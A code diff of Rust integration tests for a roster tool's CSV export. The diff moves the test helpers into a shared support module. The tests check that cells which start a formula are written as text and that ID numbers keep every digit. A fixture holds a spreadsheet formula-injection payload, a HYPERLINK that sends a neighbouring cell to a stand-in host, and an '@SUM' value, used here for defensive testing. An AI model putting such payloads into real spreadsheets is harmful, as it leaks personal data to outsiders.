@@ -4,66 +4,15 @@
 //! text (a leading `'`), ID and telephone numbers as text with every digit,
 //! and amounts and counts as plain numbers.
 
-use std::path::Path;
-use std::process::Command;
+use std::path::{Path, PathBuf};
 
-const BIN: &str = env!("CARGO_BIN_EXE_bangfu");
-const PASSPHRASE: &str = "表格导出测试 2026";
+use crate::support::{csv_rows, p, run, tempdir};
 
 /// What a spreadsheet would run: the head's name sends the next cells to a
 /// stranger when clicked.
 const LINK_NAME: &str = r#"=HYPERLINK("http://x/?"&E2,"点击")"#;
 const ID_HEAD: &str = "341024198104120119";
 const ID_SPOUSE: &str = "341024198309300228";
-
-struct Run {
-    code: i32,
-    stdout: Vec<u8>,
-    stderr: String,
-}
-
-#[track_caller]
-fn bangfu(db: &Path, args: &[&str]) -> Run {
-    let out = Command::new(BIN)
-        .env("BANGFU_PASSPHRASE", PASSPHRASE)
-        .env("HOME", db.parent().expect("db in a folder"))
-        .arg("--db")
-        .arg(db)
-        .args(args)
-        .output()
-        .expect("run bangfu");
-    let run = Run {
-        code: out.status.code().unwrap_or(-1),
-        stdout: out.stdout,
-        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
-    };
-    assert_eq!(
-        run.code,
-        0,
-        "bangfu {args:?} failed:\n{}\n{}",
-        String::from_utf8_lossy(&run.stdout),
-        run.stderr
-    );
-    run
-}
-
-fn p(path: &Path) -> &str {
-    path.to_str().expect("utf-8 path")
-}
-
-/// Every record of a CSV written with a BOM, the header included.
-fn records(bytes: &[u8]) -> Vec<Vec<String>> {
-    let body = bytes
-        .strip_prefix(b"\xEF\xBB\xBF".as_slice())
-        .expect("the CSV starts with the UTF-8 BOM");
-    csv::ReaderBuilder::new()
-        .has_headers(false)
-        .flexible(true)
-        .from_reader(body)
-        .records()
-        .map(|r| r.expect("csv record").iter().map(str::to_owned).collect())
-        .collect()
-}
 
 /// No cell may start a formula unless escaped; a number we wrote is fine.
 #[track_caller]
@@ -91,7 +40,7 @@ fn column(header: &[String], name: &str) -> usize {
 /// A store holding one roster household whose head's name is [`LINK_NAME`],
 /// whose village is `@SUM(1+1)` and whose telephone is `+8613855001234`,
 /// and a second household whose telephone is all digits with a leading 0.
-fn store_with_hostile_roster(dir: &Path) -> std::path::PathBuf {
+fn store_with_hostile_roster(dir: &Path) -> PathBuf {
     let db = dir.join("store.sqlite");
     let roster = dir.join("roster.csv");
     let quoted_name = format!("\"{}\"", LINK_NAME.replace('"', "\"\""));
@@ -102,22 +51,23 @@ fn store_with_hostile_roster(dir: &Path) -> std::path::PathBuf {
         "X-002,田心寨村,一组,,05581234567,农村,潘国强,潘国强,341024196606060938,,户主,是,完全,完全自理,96000".to_owned(),
     ];
     std::fs::write(&roster, rows.join("\n") + "\n").expect("write roster");
-    bangfu(&db, &["import", "roster", p(&roster)]);
-    bangfu(&db, &["eval", "--as-of", "2026-12-01", "--save"]);
+    run(&db, &["import", "roster", p(&roster)]).ok();
+    run(&db, &["eval", "--as-of", "2026-12-01", "--save"]).ok();
     db
 }
 
 #[test]
 fn ledger_cells_that_start_formulas_are_text_and_ids_keep_every_digit() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let db = store_with_hostile_roster(dir.path());
 
     let out = dir.path().join("ledger.csv");
-    bangfu(
+    run(
         &db,
         &["export", "ledger", "--csv", "--full-id", "--out", p(&out)],
-    );
-    let rows = records(&std::fs::read(&out).expect("ledger written"));
+    )
+    .ok();
+    let rows = csv_rows(&std::fs::read(&out).expect("ledger written"));
     assert_no_live_formula(&rows, "ledger --full-id");
     let header = &rows[0];
     let row = rows
@@ -142,8 +92,8 @@ fn ledger_cells_that_start_formulas_are_text_and_ids_keep_every_digit() {
     assert_eq!(other[column(header, "户主姓名")], "潘国强");
 
     // Masked ID numbers are text already and are written as they are.
-    let masked = bangfu(&db, &["export", "ledger", "--csv"]);
-    let rows = records(&masked.stdout);
+    let masked = run(&db, &["export", "ledger", "--csv"]).ok();
+    let rows = csv_rows(&masked.raw_stdout);
     assert_no_live_formula(&rows, "ledger");
     let row = rows.iter().find(|r| r[0] == "X-001").expect("X-001");
     assert_eq!(row[column(&rows[0], "户主身份证号")], "341024********0119");
@@ -152,11 +102,11 @@ fn ledger_cells_that_start_formulas_are_text_and_ids_keep_every_digit() {
 
 #[test]
 fn report_csv_village_names_that_start_formulas_are_text() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let db = store_with_hostile_roster(dir.path());
     let out = dir.path().join("report.csv");
-    bangfu(&db, &["report", "--csv", p(&out)]);
-    let rows = records(&std::fs::read(&out).expect("report written"));
+    run(&db, &["report", "--csv", p(&out)]).ok();
+    let rows = csv_rows(&std::fs::read(&out).expect("report written"));
     assert_no_live_formula(&rows, "report");
     let village = rows
         .iter()
